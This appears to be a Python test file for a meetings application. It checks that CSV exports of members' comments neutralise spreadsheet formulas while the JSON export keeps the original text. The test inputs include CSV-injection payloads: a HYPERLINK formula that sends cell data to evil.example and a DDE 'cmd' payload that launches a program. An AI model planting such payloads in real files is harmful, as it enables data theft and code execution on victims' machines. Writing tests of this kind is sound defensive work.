"""CSV cells never start a formula (meetings/core/spreadsheet.py): a member's comment in the opinion
form's archive, as an example of text typed by people; the JSON beside it keeps the exact text.
(The task export: tests/test_between_sittings.py; the poll results: tests/test_voting_export*.)"""
from __future__ import annotations

import csv
import io
import json
import zipfile

from meetings.core.spreadsheet import text_cell
from tests.opinion_helpers import agree_and_choose, body12, form_body  # noqa: F401  (fixture)

TYPED = ['=HYPERLINK("http://evil.example/?"&A1,"Xem")', "+cmd|' /C calc'!A0", "-2+3", "@SUM(1+1)",
         "\tTab", "- Đề nghị bổ sung Điều 5"]


def test_text_cell_marks_what_would_run_and_keeps_the_rest():
    assert [text_cell(t) for t in TYPED] == ["'" + t for t in TYPED]
    assert [text_cell(v) for v in ("Nguyễn Văn An", "", -5, 3.5, None, True)] == ["Nguyễn Văn An", "", -5, 3.5,
                                                                                   None, True]


def test_a_comment_typed_as_a_formula_is_text_in_the_archives_csv(app, body12, as_user):  # noqa: F811
    world = body12
    office = as_user("secretary")
    form = office.post(f"/api/v1/bodies/{world.body.id}/opinion-forms", json=form_body(world)).get_json()
    assert office.post(f"/api/v1/opinion-forms/{form['id']}/open").status_code == 200
    r = as_user("delegate").put(f"/api/v1/opinion-forms/{form['id']}/answer",
                                json={"answers": agree_and_choose(form, choice="other", comment=TYPED[0])})
    assert r.status_code == 200, r.get_json()
    r = office.get(f"/api/v1/opinion-forms/{form['id']}/bundle")
    assert r.status_code == 200
    bag = zipfile.ZipFile(io.BytesIO(r.data))
    root = f"opinion-form-{form['id']}/data"
    rows = list(csv.DictReader(io.StringIO(bag.read(f"{root}/answers.csv").decode("utf-8-sig"))))
    assert [row["comment"] for row in rows if row["comment"]] == ["'" + TYPED[0]]
    assert not [cell for row in rows for cell in row.values() if cell and cell[0] in "=+-@\t\r"]
    kept = json.loads(bag.read(f"{root}/answers.json"))
    assert kept[0]["answers"][0]["comment"] == TYPED[0]
